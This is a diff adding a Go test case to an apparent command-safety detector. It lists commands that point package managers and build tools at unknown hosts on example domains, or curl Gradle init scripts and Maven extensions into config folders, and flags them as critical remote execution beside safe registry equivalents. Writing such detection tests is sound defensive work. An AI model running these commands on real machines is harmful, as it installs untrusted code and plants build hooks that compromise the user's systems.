@@ -441,3 +441,43 @@ func TestTokensToTheirIssuer(t *testing.T) {
 		`curl -s -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user | jq .login`,
 	})
 }
+
+// Package sources on a stranger's host, client by client as their
+// documentation spells them, beside the same commands on the public
+// registries and local paths.
+func TestPackageSourcesOnStrangersHosts(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`pip install --find-links https://files.example.com/wheels/ fastjson`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`go env -w GOPROXY=https://proxy.example.net,direct`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`composer config repositories.x vcs https://git.example.org/x/pkg.git`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`cs launch --repository https://repo.example.net/maven2 com.example:tool:1.0`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`mix archive.install https://x.example.com/tool.ez`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`mix archive.install github someuser/tool`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`dart pub global activate --source git https://git.example.org/x/tool.git`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`dart pub global activate tool --hosted-url https://pub.example.net`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`zig fetch --save https://x.example.com/lib.tar.gz`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`kubectl krew index add corp https://git.example.org/x/index.git`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`kubectl krew install --manifest-url https://x.example.com/plugin.yaml`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`Rscript -e 'install.packages("x", repos="https://cran.example.net")'`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`Rscript -e 'remotes::install_url("https://x.example.com/pkg.tar.gz")'`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`julia -e 'using Pkg; Pkg.add(url="https://git.example.org/x/Pkg.jl")'`, CategoryRemoteExec, "package-source-stranger", LevelCritical},
+		{`mkdir -p ~/.gradle/init.d && curl -so ~/.gradle/init.d/x.gradle https://x.example.com/x.gradle`, CategoryRemoteExec, "", LevelCritical},
+		{`mkdir -p .mvn && curl -so .mvn/extensions.xml https://x.example.com/ext.xml`, CategoryRemoteExec, "", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`pip install --find-links ./wheels acme`,
+		`pip install -f https://download.pytorch.org/whl/torch_stable.html torch`,
+		`go env -w GOPROXY=https://proxy.golang.org,direct`,
+		`go env -w GOPRIVATE=github.com/acme/*`,
+		`composer config repositories.local path ../packages/acme`,
+		`cs launch scalafmt`,
+		`mix archive.install hex phx_new`,
+		`dart pub global activate very_good_cli`,
+		`zig fetch --save https://github.com/acme/lib/archive/v1.0.tar.gz`,
+		`kubectl krew install ctx`,
+		`Rscript -e 'install.packages("dplyr", repos="https://cloud.r-project.org")'`,
+		`julia -e 'using Pkg; Pkg.add("DataFrames")'`,
+		`cp templates/init.gradle ~/.gradle/init.d/acme.gradle`,
+	})
+}
